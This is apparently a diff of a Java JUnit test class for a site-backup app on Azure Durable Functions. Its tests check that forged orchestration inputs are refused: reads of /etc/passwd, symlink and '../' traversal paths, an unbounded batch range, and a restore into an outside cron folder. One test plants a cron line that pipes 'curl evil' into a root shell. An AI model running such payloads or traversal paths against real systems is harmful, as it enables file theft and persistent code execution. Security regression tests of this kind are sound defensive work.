@@ -4,36 +4,39 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-import com.contoso.sitebackup.backup.BackupSlice;
+import com.contoso.sitebackup.backup.BackupJob;
+import com.contoso.sitebackup.backup.CopyEntry;
 import com.contoso.sitebackup.backup.CopyFileToBlob;
-import com.contoso.sitebackup.backup.CopyRequest;
 import com.contoso.sitebackup.config.AppServices;
+import com.contoso.sitebackup.durable.BatchGroup;
+import com.contoso.sitebackup.durable.BatchOutcome;
+import com.contoso.sitebackup.durable.BatchWork;
+import com.contoso.sitebackup.durable.CodeVersion;
+import com.contoso.sitebackup.durable.FanOut;
 import com.contoso.sitebackup.durable.FanOutSummary;
-import com.contoso.sitebackup.durable.FileOutcome;
+import com.contoso.sitebackup.durable.GroupRequest;
 import com.contoso.sitebackup.durable.ManifestStore;
 import com.contoso.sitebackup.durable.TestManifests;
-import com.contoso.sitebackup.durable.TestManifests;
-import com.contoso.sitebackup.durable.SliceRequest;
-import com.contoso.sitebackup.fs.PathCodec;
+import com.contoso.sitebackup.durable.Wire;
+import com.contoso.sitebackup.fs.EntryType;
 import com.contoso.sitebackup.fs.FileEntry;
+import com.contoso.sitebackup.fs.PathCodec;
 import com.contoso.sitebackup.fs.SecureDirectory;
 import com.contoso.sitebackup.fs.SecureRoots;
 import com.contoso.sitebackup.harness.BackupApp;
 import com.contoso.sitebackup.harness.DurableHarness;
 import com.contoso.sitebackup.harness.HarnessResult;
 import com.contoso.sitebackup.restore.RestoreBlobToFile;
-import com.contoso.sitebackup.restore.RestoreFileRequest;
-import com.contoso.sitebackup.restore.RestoreSlice;
+import com.contoso.sitebackup.restore.RestoreJob;
 import com.contoso.sitebackup.testing.Azurite;
 import com.contoso.sitebackup.testing.AzuriteTest;
 import com.contoso.sitebackup.verify.CheckFileContent;
-import com.contoso.sitebackup.verify.ContentCheck;
+import com.contoso.sitebackup.verify.VerifyJob;
 
 import com.azure.core.util.BinaryData;
 import com.azure.storage.blob.BlobContainerClient;
 import com.azure.storage.blob.BlobServiceClient;
 import com.azure.storage.blob.models.BlobItem;
-import com.fasterxml.jackson.databind.ObjectMapper;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -47,7 +50,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * Issue 10, item 1: activities and slice orchestrators trusted their input, reachable with the system key through
+ * Issue 10, item 1 (and issue 23, item 3): activities and orchestrators trusted their input, reachable with the system key through
  * the extension's own webhook ({@code POST /runtime/webhooks/durabletask/orchestrators/{name}} with any input). Each
  * attack of the issue is replayed here against the app's own functions, built from its composition root with one
  * allowed root, on real temp trees and Azurite: nothing outside the root is read, hashed or written (counts
@@ -55,8 +58,6 @@ import org.junit.jupiter.api.io.TempDir;
  */
 @AzuriteTest
 class EntryPointsAttackTest {
-    private static final ObjectMapper JSON = new ObjectMapper();
-
     @TempDir
     Path tmp;
 
@@ -89,75 +90,113 @@ class EntryPointsAttackTest {
         return container.listBlobs().stream().map(BlobItem::getName).toList();
     }
 
-    private String manifest(FileEntry... files) {
-        return TestManifests.writeOneSlice(new ManifestStore(blobs, BackupApp.MANIFEST_CONTAINER, 500), List.of(files));
+    private ManifestStore manifests() {
+        return new ManifestStore(blobs, BackupApp.MANIFEST_CONTAINER, 500);
     }
 
-    /** {@code BackupSlice} with a root outside the roots: the slice runs, every copy is refused, nothing uploaded. */
+    /** A manifest planted with {@code card} and {@code entries}: what a forged orchestration input could name. */
+    private String planted(Object card, List<?> entries) {
+        return TestManifests.writeOneBatch(manifests(), card, entries);
+    }
+
+    private static String work(String manifest) {
+        return Wire.write(new BatchWork(CodeVersion.CURRENT, manifest, BatchWork.whole(0, 1), 1, false));
+    }
+
+    private FanOutSummary group(String activity, String manifest) {
+        HarnessResult result = harness().run(BatchGroup.NAME, new GroupRequest(CodeVersion.CURRENT, activity,
+                manifest, 0, 1));
+        return Wire.read(result.output(), FanOutSummary.class, "the group's output");
+    }
+
+    /** A {@code BatchGroup} of copies whose card names a root outside the roots: every copy refused, nothing uploaded. */
     @Test
-    void backupSlice_rootOutsideTheRoots_everyCopyRefusedNothingUploaded() throws IOException {
-        SliceRequest slice = SliceRequest.of(manifest(new FileEntry("secret.txt", 14, 0)), outside.toString(),
-                container.getBlobContainerName(), "stolen", false, null);
+    void batchGroup_rootOutsideTheRoots_everyCopyRefusedNothingUploaded() {
+        String manifest = planted(new BackupJob(outside.toString(), container.getBlobContainerName(), "stolen", null,
+                null), List.of(new CopyEntry("secret.txt", 14, 0, EntryType.FILE, null)));
 
-        HarnessResult result = harness().run(BackupSlice.NAME, slice);
+        FanOutSummary summary = group(CopyFileToBlob.NAME, manifest);
 
-        FanOutSummary summary = JSON.readValue(result.output(), FanOutSummary.class);
-        assertEquals(0, summary.getFilesDone());
-        assertEquals(1, summary.getProblemCount());
-        assertTrue(summary.getProblems().get(0).getReason().startsWith("refused: rootDirectory '" + outside
-                + "' is not a directory this app may read"), summary.getProblems().toString());
+        assertEquals(0, summary.filesDone());
+        assertEquals(1, summary.problemCount());
+        assertTrue(summary.problems().get(0).getReason().startsWith("refused: rootDirectory '" + outside
+                + "' is not a directory this app may read"), summary.problems().toString());
         assertEquals(List.of(), uploaded());
-        System.out.println("BackupSlice outside the roots: " + summary.getProblemCount() + " copy refused, 0 uploaded");
+        System.out.println("BatchGroup outside the roots: " + summary.problemCount() + " copy refused, 0 uploaded");
     }
 
-    /** {@code BackupSlice} with {@code root=/} and a planted manifest naming {@code etc/passwd}: nothing uploaded. */
+    /** A card with {@code root=/} and entries naming {@code etc/passwd}: nothing uploaded. */
     @Test
-    void backupSlice_rootOfTheFileSystemWithAPlantedManifest_nothingUploaded() throws IOException {
+    void batchGroup_rootOfTheFileSystemWithAPlantedManifest_nothingUploaded() {
         String secretFromTheTop = PathCodec.encode(outside.resolve("secret.txt").toString().substring(1));
-        SliceRequest slice = SliceRequest.of(manifest(new FileEntry("etc/passwd", 100, 0),
-                new FileEntry(secretFromTheTop, 14, 0)), "/", container.getBlobContainerName(), "", false, null);
+        String manifest = planted(new BackupJob("/", container.getBlobContainerName(), "x", null, null),
+                List.of(new CopyEntry("etc/passwd", 100, 0, EntryType.FILE, null),
+                        new CopyEntry(secretFromTheTop, 14, 0, EntryType.FILE, null)));
 
-        HarnessResult result = harness().run(BackupSlice.NAME, slice);
+        FanOutSummary summary = group(CopyFileToBlob.NAME, manifest);
 
-        FanOutSummary summary = JSON.readValue(result.output(), FanOutSummary.class);
-        assertEquals(0, summary.getFilesDone());
-        assertEquals(2, summary.getProblemCount());
+        assertEquals(0, summary.filesDone());
+        assertEquals(2, summary.problemCount());
         assertEquals(List.of(), uploaded());
     }
 
-    /** {@code CopyFileToBlob("/etc", "passwd")} and the copy of a file reached through a link: refused. */
+    /** Issue 23, item 3: a group of 2,147,483,647 batches through Durable's HTTP API is refused at once. */
+    @Test
+    void batchGroup_unboundedRange_refusedWithoutSchedulingAnything() {
+        String manifest = planted(new BackupJob(root.toString(), container.getBlobContainerName(), "x", null, null),
+                List.of());
+        java.util.Map<String, Object> forged = java.util.Map.of("codeVersion", CodeVersion.CURRENT,
+                "activity", CopyFileToBlob.NAME, "manifest", manifest, "from", 0, "to", Integer.MAX_VALUE);
+
+        HarnessResult result = harness().run(BatchGroup.NAME, forged);
+
+        assertEquals(0, result.metrics().activityExecutions(), result.metrics().summary());
+        FanOutSummary summary = Wire.read(result.output(), FanOutSummary.class, "output");
+        assertTrue(summary.failures().get(0).getReason().contains("a group runs 1 to " + FanOut.GROUP_BATCHES
+                + " batches"), summary.failures().toString());
+        System.out.println("BatchGroup from 0 to 2147483647: " + result.metrics().activityExecutions()
+                + " activities scheduled");
+    }
+
+    /** {@code CopyFileToBlob} on cards naming {@code /etc}, a link outside, or a path leading up: refused. */
     @Test
     void copyFileToBlob_etcPasswdOrALinkOutside_refusedNothingUploaded() throws IOException {
         Files.createSymbolicLink(root.resolve("site/out"), outside);
         CopyFileToBlob copy = new CopyFileToBlob(services);
         String name = container.getBlobContainerName();
 
-        List<FileOutcome> outcomes = List.of(
-                copy.run(new CopyRequest("/etc", "passwd", name, "passwd")),
-                copy.run(new CopyRequest(root.resolve("site").toString(), "out/secret.txt", name, "out/secret.txt")),
-                copy.run(new CopyRequest(root.resolve("site").toString(), "../../outside/secret.txt", name, "x")),
-                copy.run(new CopyRequest(root.resolve("site/out").toString(), "secret.txt", name, "secret.txt")));
+        List<BatchOutcome> outcomes = List.of(
+                run(copy, new BackupJob("/etc", name, "x", null, null), "passwd"),
+                run(copy, new BackupJob(root.resolve("site").toString(), name, "x", null, null), "out/secret.txt"),
+                run(copy, new BackupJob(root.resolve("site").toString(), name, "x", null, null),
+                        "../../outside/secret.txt"),
+                run(copy, new BackupJob(root.resolve("site/out").toString(), name, "x", null, null), "secret.txt"));
 
-        outcomes.forEach(o -> assertTrue(o.getProblem() != null && !o.isDone(), String.valueOf(o.getProblem())));
+        outcomes.forEach(o -> assertTrue(o.filesDone() == 0 && o.problemCount() == 1, o.toString()));
         assertEquals(List.of(), uploaded());
     }
 
-    /** {@code RestoreSlice} and {@code RestoreBlobToFile} into an outside {@code etc/cron.d}: nothing written there. */
+    private BatchOutcome run(CopyFileToBlob copy, BackupJob job, String path) {
+        String manifest = planted(job, List.of(new CopyEntry(path, 1, 0, EntryType.FILE, null)));
+        return Wire.read(copy.run(work(manifest)), BatchOutcome.class, "outcome");
+    }
+
+    /** {@code RestoreBlobToFile} whose card targets an outside {@code etc/cron.d}: nothing written there. */
     @Test
-    void restoreSliceAndRestoreBlobToFile_intoAnOutsideCronFolder_nothingWritten() throws IOException {
+    void restoreBlobToFile_intoAnOutsideCronFolder_nothingWritten() throws IOException {
         Path cron = Files.createDirectories(outside.resolve("etc/cron.d"));
         container.getBlobClient("job/evil").upload(BinaryData.fromString("* * * * * root curl evil | sh"));
-        SliceRequest slice = SliceRequest.of(manifest(new FileEntry("evil", 30, 0)), cron.toString(),
-                container.getBlobContainerName(), "job", true, null);
+        String manifest = planted(new RestoreJob(cron.toString(), container.getBlobContainerName(), "job",
+                "20261206T000000.000Z", true, null), List.of(new FileEntry("evil", 30, 0, null, EntryType.FILE, null,
+                0644, null, null, null, "20261206T000000.000Z", null)));
 
-        HarnessResult result = harness().run(RestoreSlice.NAME, slice);
-        FileOutcome direct = new RestoreBlobToFile(services).run(new RestoreFileRequest(container.getBlobContainerName(),
-                "job/evil", cron.toString(), "evil", true));
+        FanOutSummary grouped = group(RestoreBlobToFile.NAME, manifest);
+        BatchOutcome direct = Wire.read(new RestoreBlobToFile(services).run(work(manifest)), BatchOutcome.class, "o");
 
-        FanOutSummary summary = JSON.readValue(result.output(), FanOutSummary.class);
-        assertEquals(0, summary.getFilesDone());
-        assertEquals(1, summary.getProblemCount());
-        assertTrue(direct.getProblem().startsWith("refused: targetDirectory"), direct.getProblem());
+        assertEquals(0, grouped.filesDone());
+        assertEquals(1, grouped.problemCount());
+        assertTrue(direct.problems().get(0).getReason().startsWith("refused: targetDirectory"),
+                direct.problems().toString());
         try (Stream<Path> written = Files.list(cron)) {
             assertEquals(List.of(), written.toList());
         }
@@ -170,12 +209,15 @@ class EntryPointsAttackTest {
         String right = Base64.getEncoder().encodeToString(MessageDigest.getInstance("MD5")
                 .digest("OUTSIDE SECRET".getBytes()));
         String wrong = Base64.getEncoder().encodeToString(new byte[16]);
+        VerifyJob job = new VerifyJob(outside.toString(), null);
 
-        FileOutcome guessedRight = check.run(new ContentCheck(outside.toString(), "secret.txt", right));
-        FileOutcome guessedWrong = check.run(new ContentCheck(outside.toString(), "secret.txt", wrong));
+        BatchOutcome guessedRight = Wire.read(check.run(work(planted(job, List.of(new FileEntry("secret.txt", 14, 0,
+                right))))), BatchOutcome.class, "o");
+        BatchOutcome guessedWrong = Wire.read(check.run(work(planted(job, List.of(new FileEntry("secret.txt", 14, 0,
+                wrong))))), BatchOutcome.class, "o");
 
-        assertEquals(guessedRight.getProblem(), guessedWrong.getProblem());
-        assertTrue(guessedRight.getProblem().startsWith("refused: "), guessedRight.getProblem());
+        assertEquals(guessedRight.problems(), guessedWrong.problems());
+        assertTrue(guessedRight.problems().get(0).getReason().startsWith("refused: "), guessedRight.toString());
     }
 
     @Test
